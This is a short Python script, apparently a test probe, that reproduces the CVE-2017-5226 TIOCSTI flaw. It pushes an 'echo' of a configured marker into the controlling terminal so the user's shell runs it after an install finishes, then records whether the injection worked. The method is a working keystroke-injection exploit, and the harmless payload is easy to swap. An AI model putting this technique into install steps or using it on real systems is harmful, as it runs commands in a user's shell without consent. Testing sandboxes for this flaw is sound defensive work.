# CVE-2017-5226: push keystrokes into the controlling terminal with TIOCSTI; the user's
# shell reads and runs them after the install returns.
import fcntl
import os
import termios
from pylib import cfg, did, note, finish

text = ('echo ' + cfg['params']['marker'] + '\n').encode()
try:
    fd = os.open('/dev/tty', os.O_RDWR)
    try:
        for byte in text:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        did('injected')
    finally:
        os.close(fd)
except OSError as e:
    note(f'TIOCSTI: {e.strerror}')
finish()
